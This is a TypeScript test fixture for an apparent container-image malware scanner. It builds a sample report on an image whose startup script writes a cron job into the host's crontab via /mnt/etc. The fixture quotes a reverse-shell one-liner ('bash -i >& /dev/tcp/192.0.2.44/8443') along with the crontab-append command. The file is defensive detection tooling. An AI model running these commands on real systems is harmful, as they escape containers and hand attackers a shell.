import { ImageReport } from '../reports/report.ts';

/** Digest of a made-up blob: the digit, 64 times. */
const digestOf = (digit: string) => `sha256:${digit.repeat(64)}`;

/**
 * A report written by hand in the manner of a known campaign: a script that plants a job in the host's crontab. Reports
 * are tested on it without the pipeline; `sampleReport` checks it against the schema, so it cannot drift from it.
 */
export function sampleReport(change: Partial<ImageReport> = {}): ImageReport {
  return ImageReport.parse({ ...sample, ...change });
}

const layer = { index: 2, digest: digestOf('3') };
const history = { step: 2, createdBy: '/bin/sh -c #(nop) COPY file:4f in /run.sh' };
const scriptWhere = { layer, path: '/run.sh', line: 4, history };
const job = '* * * * * root bash -i >& /dev/tcp/192.0.2.44/8443 0>&1';

const sample: ImageReport = {
  schemaVersion: '1.1',
  tool: { name: 'tidewaiter', version: '0.0.0-test', engine: 'test' },
  image: {
    reference: 'registry.example/someone/tomcat11:latest',
    digest: digestOf('a'),
    configDigest: digestOf('b'),
    platform: 'linux/amd64',
    mediaType: 'application/vnd.oci.image.manifest.v1+json',
    created: '2024-01-02T03:04:05Z',
    layers: [0, 1, 2].map((index) => ({
      index,
      mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip',
      digest: digestOf(String(index + 1)),
      diffId: digestOf('d'),
      size: 60_000_000,
      uncompressedSize: 60_333_333,
      entries: 3091,
      createdBy: index === 2 ? history.createdBy : `/bin/sh -c apt-get install -y part${index} # buildkit`,
      cached: index < 2,
    })),
  },
  verdict: 'malicious',
  complete: true,
  gaps: [],
  findings: [
    {
      id: 'f1',
      detector: 'host-cron',
      version: 1,
      title: "Adds a job to the host's crontab through /mnt/etc",
      severity: 'malicious',
      confidence: 'high',
      reach: 'runs',
      attack: ['T1053.003', 'T1611'],
      where: scriptWhere,
      evidence: [
        { text: `echo "${job}" >> /mnt/etc/crontab`, where: scriptWhere, note: 'the line that does it' },
        {
          text: 'bash -i >& /dev/tcp/192.0.2.44/8443 0>&1',
          where: { layer, line: 1 },
          decoded: [{ decoder: 'base64', input: 'YmFzaCAtaQ==' }],
        },
      ],
      because: 'The path is a folder of the host when the container is started as its description says.',
      indicators: ['192.0.2.44'],
      effects: [0],
      stage: 0,
      start: 0,
    },
    {
      id: 'f2',
      detector: 'reverse-shell',
      version: 2,
      title: 'Hands an interactive shell to 192.0.2.44:8443',
      severity: 'suspicious',
      confidence: 'medium',
      reach: 'runs',
      attack: ['T1059.004'],
      where: { config: 'Entrypoint' },
      evidence: [{ text: 'bash -i', where: { config: 'Entrypoint' } }],
      effects: [1],
    },
    {
      id: 'f3',
      detector: 'dual-use-tool',
      version: 1,
      title: 'Carries nmap',
      severity: 'note',
      confidence: 'low',
      reach: 'present',
      attack: [],
      where: { layer, path: '/usr/bin/nmap', offset: 64 },
      evidence: [],
    },
  ],
  chains: [],
  story: {
    starts: [
      {
        id: 0,
        kind: 'entrypoint',
        reach: 'runs',
        label: 'ENTRYPOINT /bin/sh /run.sh',
        where: { layer, path: '/run.sh', history },
        stage: 0,
        target: '/run.sh',
        targetKind: 'script',
      },
      {
        id: 1,
        kind: 'healthcheck',
        reach: 'runs',
        label: 'HEALTHCHECK /usr/bin/probe',
        where: { config: 'Healthcheck' },
        target: '/usr/bin/probe',
        targetKind: 'binary',
      },
      {
        id: 2,
        kind: 'cron',
        reach: 'armed',
        label: 'cron: @daily root /opt/x',
        where: { path: '/etc/cron.d/x' },
        stage: 2,
      },
    ],
    stages: [
      {
        id: 0,
        language: 'shell',
        origin: { kind: 'file', path: '/run.sh' },
        text: `#!/bin/sh\n\n\necho "${job}" >> /mnt/etc/crontab\nsleep infinity\n`,
        reach: 'runs',
        start: 0,
        where: { layer, path: '/run.sh' },
        decoded: [],
      },
      {
        id: 1,
        language: 'shell',
        origin: { kind: 'schedule', schedule: '* * * * *' },
        text: 'bash -i >& /dev/tcp/192.0.2.44/8443 0>&1',
        reach: 'runs',
        parent: 0,
        start: 0,
        where: { layer, path: '/run.sh', line: 4 },
        decoded: [],
      },
      {
        id: 2,
        language: 'shell',
        origin: { kind: 'schedule', schedule: '@daily' },
        text: '/opt/x',
        reach: 'armed',
        start: 2,
        where: { path: '/etc/cron.d/x', line: 1 },
        decoded: [],
      },
    ],
    commands: [],
    effects: [
      {
        id: 0,
        kind: 'schedule',
        stage: 0,
        line: 4,
        outside: '/mnt/etc',
        table: ['/mnt/etc/crontab'],
        schedule: '* * * * *',
        job: ['bash -i >& /dev/tcp/192.0.2.44/8443 0>&1'],
        ran: 1,
      },
      {
        id: 1,
        kind: 'connect',
        stage: 1,
        line: 1,
        to: { host: ['192.0.2.44'], port: ['8443'], protocol: 'tcp' },
        shell: { program: 'bash', how: 'redirection' },
      },
      { id: 2, kind: 'fetch', stage: 2, line: 1, url: ['http://', { hole: '$HOST' }, '/x'], tool: 'curl' },
    ],
    omitted: { starts: 4, stages: 4, commands: 9, effects: 0 },
  },
  indicators: [
    { kind: 'host', value: 'docs.example', scope: 'documentation', where: [{ path: '/usr/share/doc/x' }] },
    { kind: 'ipv4', value: '192.0.2.44', port: 8443, scope: 'documentation', where: [scriptWhere] },
    { kind: 'pool', value: 'pool.invalid', port: 3333, scope: 'reserved', where: [{ config: 'Env' }] },
  ],
  trust: { checked: [] },
  stats: {
    layers: 3,
    cachedLayers: 2,
    files: 9273,
    bytes: 181_000_000,
    compressedBytes: 180_000_000,
    milliseconds: 912,
  },
};
